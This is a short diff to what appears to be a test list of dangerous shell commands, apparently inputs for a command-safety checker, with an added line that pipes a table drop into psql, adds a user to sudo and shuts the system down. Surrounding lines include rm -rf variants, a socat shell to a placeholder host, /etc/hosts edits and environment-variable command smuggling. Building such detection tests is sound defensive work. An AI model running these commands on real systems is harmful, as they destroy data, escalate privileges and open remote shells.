@@ -50,6 +50,7 @@ python -c "open('/etc/x', 'w')" ;; python -c "import os; getattr(os, 'sys' + 'te
 ls | xargs sh -c ;; ls | xargs python ;; NODE_OPTIONS='--require ./x.js' node a ;; aria2c a
 python -c "import os; os.remove('a')" ;; function f { rm -rf x; }; f ;; (sleep 1; rm -rf x) & ;; curl.exe a
 socat exec:sh tcp:a:1
+echo 'drop table a' | psql ;; git submodule deinit -f a ;; usermod -aG sudo a ;; init 0 ;; (rm -rf x) 2>&1 | tee a
 deno eval "Deno.removeSync('x')" ;; terraform apply -destroy ;; npx prisma migrate reset ;; perl -pi -e s/a/b/ /etc/hosts
 GIT_EXTERNAL_DIFF='rm -rf x' git diff ;; npm unpublish a ;; perl -e 'unlink "a"' ;; f() { f; rm -rf x; }; f
 ruby -e 'FileUtils.rm_rf("x")' ;; php -r 'system("rm x");'
